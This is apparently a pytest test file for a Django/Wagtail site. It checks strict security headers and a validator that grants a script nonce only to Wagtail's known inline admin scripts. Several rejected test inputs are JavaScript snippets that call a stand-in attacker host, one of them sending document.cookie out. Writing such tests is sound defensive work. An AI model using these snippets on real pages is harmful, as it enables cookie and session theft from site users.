import re

import pytest

from security.headers import is_known_admin_script

pytestmark = pytest.mark.django_db
SELECT_ALL = """
        document.addEventListener('DOMContentLoaded', function() {
            var selectAll = document.querySelector('[name="select_all"]');
            var locales = document.querySelectorAll('[name="locales"]');

            selectAll.addEventListener('change', function() {
                for (var i = 0; i < locales.length; i++) {
                    locales[i].checked = selectAll.checked;
                }
            });
        });
    """


def test_public_pages_send_a_strict_content_security_policy(client, site_pages):
    response = client.get("/th/")
    policy = response["Content-Security-Policy"]
    script_src = re.search(r"script-src ([^;]*)", policy).group(1)
    assert script_src == "'self'"
    assert "unsafe-inline" not in policy
    assert "frame-ancestors 'none'" in policy
    assert "object-src 'none'" in policy
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "strict-origin-when-cross-origin"
    assert "camera=()" in response["Permissions-Policy"]


def test_admin_allows_only_wagtails_known_inline_scripts(admin_client, site_pages):
    response = admin_client.get(f"/admin/pages/{site_pages[0].pk}/edit/")
    policy = response["Content-Security-Policy"]
    nonce = re.search(r"'nonce-([^']+)'", policy).group(1)
    script_src = re.search(r"script-src ([^;]*)", policy).group(1)
    assert "unsafe-inline" not in script_src
    inline = re.findall(r"<script(?: nonce=\"([^\"]*)\")?>", response.text)
    assert inline and all(found == nonce for found in inline)  # every inline script is a known one
    assert response["X-Frame-Options"] == "SAMEORIGIN"  # Wagtail's live preview


@pytest.mark.parametrize(
    ("script", "known"),
    [
        ('new ImageChooser("id_hero_image", {"modalUrl": "/admin/images/chooser/"});', True),
        ('initDateChooser("id_date", {"dayOfWeekStart": 1});', True),
        ('(function() { var panel = new InlinePanel(JSON.parse("{\\u0022name\\u0022: 1}")); })();', True),
        ("fetch('//evil.example/?c=' + document.cookie)", False),
        ('new ImageChooser("x", {"a": 1}); fetch("//evil.example");', False),
        ('new ImageChooser("x", {"a": 1}); fetch({"b": 2});', False),
        ('initDateChooser("x", {not json});', False),
        (SELECT_ALL, True),  # wagtail-localize's Translate page
        (SELECT_ALL.replace("selectAll.checked;", "selectAll.checked; fetch('//evil.example');"), False),
    ],
)
def test_only_wagtails_own_inline_scripts_get_the_nonce(script, known):
    assert is_known_admin_script(script) is known


def test_session_and_csrf_cookies_are_http_only_and_same_site(client, site_pages, settings):
    assert settings.SESSION_COOKIE_HTTPONLY and settings.CSRF_COOKIE_HTTPONLY
    assert settings.SESSION_COOKIE_SAMESITE == "Lax"
